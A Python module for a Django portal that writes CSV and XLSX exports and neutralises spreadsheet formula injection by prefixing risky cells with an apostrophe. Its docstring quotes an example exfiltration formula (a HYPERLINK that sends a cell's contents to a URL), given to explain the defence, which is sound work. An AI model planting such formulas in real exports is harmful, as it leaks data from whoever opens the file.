"""Every spreadsheet the portal writes goes through here: the CSV downloads (/daten/, the
monitoring, the quality reports, the status report), the status report's XLSX and the staff
exports in the admin.

No cell starts a formula (OWASP, "CSV Injection"). Excel and LibreOffice read a cell that
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula, and a formula
can send the sheet's contents away (``=HYPERLINK("https://…?d="&A1,"Klick")``) or start
programs. ``neutralise()`` puts an apostrophe in front of such a text: it stays readable,
``'=HYPERLINK(…)``, and is inert, in the CSV and in the XLSX alike (and still inert when an
XLSX is saved again as CSV). Numbers stay numbers: an int, float or Decimal, and a text that is
nothing but a number such as ``-3`` or ``-0.5`` (it is no formula), are written as they are;
dates, booleans and empty cells too.

CSV, one convention for every download: UTF-8 with a byte order mark, comma-separated, quoted
only where needed, each line ended by CRLF. The byte order mark is how Excel recognises UTF-8
(without it, umlauts come out garbled); CRLF is RFC 4180's line end and what the admin export
(tablib) writes too. Programs skip the byte order mark when they read with "utf-8-sig" (Python)
or on their own (LibreOffice, pandas). German Excel expects semicolons when a file is opened by
double click; it reads the comma-separated open data through "Daten › Aus Text/CSV". The
status report, read by people and not by programs, is written with ``delimiter=";"``.

XLSX: ``new_workbook()``, ``append_row()`` and ``xlsx_bytes()``; strings are neutralised, and
characters that XLSX cannot hold (control characters) become "�" instead of an error, in the
admin's XLSX export as well. A workbook of thousands of rows (the status report) is written
``write_only``: each row goes to the file as it is appended, its cells styled by model cells
(``model_cell()``, one per column) given to ``append_row(..., styles=...)``.

The staff exports of django-import-export are written with ``ExportCSV`` and ``ExportXLSX``
(named in settings.EXPORT_FORMATS). Its own IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is not
used: it removes a leading "=" (only that one character: "+", "-", "@", tab and carriage
return pass) and turns every cell into text, numbers and dates as well, an empty cell into
"None".
"""

import codecs
import csv
import datetime
import io
import re
from decimal import Decimal

import tablib
from import_export.formats import base_formats
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")
NATIVE = (bool, int, float, Decimal, datetime.date, datetime.time, datetime.timedelta)


def neutralise(value):
    """The value as a spreadsheet cell that cannot start a formula: a text beginning with
    = + - @ tab or carriage return gets a leading apostrophe, other texts are returned as
    they are (lazy translations as str), numbers, dates and None unchanged."""
    if type(value) is str:  # the common case first: most cells are plain texts
        if not value or value[0] not in "=+-@\t\r":
            return value
    elif value is None or isinstance(value, NATIVE):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def restore(text):
    """The text a neutralised cell stood for: what ``neutralise`` wrote comes back as it was
    (so that exporting and importing a file again changes nothing)."""
    if text.startswith("'") and neutralise(text[1:]) == text:
        return text[1:]
    return text


# CSV


class _Line:
    """A file that hands back what is written to it: csv.writer then returns each line."""

    def write(self, text):
        return text


# A streamed CSV is sent in pieces of about this many characters: one piece per line would
# cost the server more per line than writing the line does.
CSV_PIECE_CHARS = 32 * 1024


def csv_lines(rows, delimiter=","):
    """The rows as CSV in the portal's convention, as encoded pieces: the byte order mark,
    then the lines, some kilobytes at a time. Made as they are read, for a streamed
    response. ``delimiter=";"`` for a file meant to be opened in German Excel."""
    writer = csv.writer(_Line(), delimiter=delimiter, lineterminator="\r\n")
    yield codecs.BOM_UTF8
    piece, size = [], 0
    for row in rows:
        line = writer.writerow([neutralise(value) for value in row])
        piece.append(line)
        size += len(line)
        if size >= CSV_PIECE_CHARS:
            yield "".join(piece).encode("utf-8")
            piece, size = [], 0
    if piece:
        yield "".join(piece).encode("utf-8")


def csv_bytes(rows, delimiter=","):
    """The rows as one CSV file (see ``csv_lines``)."""
    return b"".join(csv_lines(rows, delimiter=delimiter))


# XLSX


def new_workbook(write_only=False):
    """A workbook; ``write_only``: its sheets (``create_sheet()``, there is no active one)
    are written row by row as they are appended: column widths and frozen panes must be set
    before the first row, print settings and filters may follow the rows."""
    return Workbook(write_only=write_only)


def xlsx_value(value):
    value = neutralise(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("\N{REPLACEMENT CHARACTER}", value)
    return value


def model_cell(sheet, font=None, fill=None, alignment=None, number_format=None):
    """A styled cell of a write-only sheet, for ``append_row(..., styles=...)``."""
    cell = WriteOnlyCell(sheet)
    if font is not None:
        cell.font = font
    if fill is not None:
        cell.fill = fill
    if alignment is not None:
        cell.alignment = alignment
    if number_format is not None:
        cell.number_format = number_format
    return cell


def append_row(sheet, values, styles=()):
    """Append one row of cells to an openpyxl sheet; no string becomes a formula.
    ``styles``: for a write-only sheet, a ``model_cell()`` (or None) per column, from the
    first, each column's a cell of its own. A write-only sheet writes a row the moment it is
    appended, so the model cells themselves carry the row's values: no new cell and no style
    looked up or copied per cell, which took much of the time of thousands of rows."""
    row = [xlsx_value(value) for value in values]
    if styles and not isinstance(sheet, WriteOnlyWorksheet):
        raise TypeError("styles= is for write-only sheets")
    for index, model in enumerate(styles[: len(row)]):
        if model is not None:
            model.value = row[index]
            row[index] = model
    sheet.append(row)


def xlsx_bytes(book):
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# Staff exports in the admin (django-import-export)


def _neutralised(dataset, cell=neutralise):
    return tablib.Dataset(
        *([cell(value) for value in row] for row in dataset),
        headers=[cell(header) for header in dataset.headers or []] or None,
        title=dataset.title,
    )


class ExportCSV(base_formats.CSV):
    """The admin's CSV export, neutralised. The byte order mark comes from the admin
    (StaffImportExportMixin encodes CSV as "utf-8-sig"); tablib ends lines with CRLF."""

    def export_data(self, dataset, **kwargs):
        return super().export_data(_neutralised(dataset), **kwargs)


class ExportXLSX(base_formats.XLSX):
    """The admin's XLSX export, neutralised, control characters replaced."""

    def export_data(self, dataset, **kwargs):
        return super().export_data(_neutralised(dataset, xlsx_value), **kwargs)


# django-import-export hands dates and numbers over as such only to the formats in this list,
# compared by exact class; without this, ExportXLSX would receive every cell as text.
base_formats.BINARY_FORMATS.append(ExportXLSX)

STAFF_EXPORT_FORMATS = [ExportCSV, ExportXLSX, base_formats.JSON]
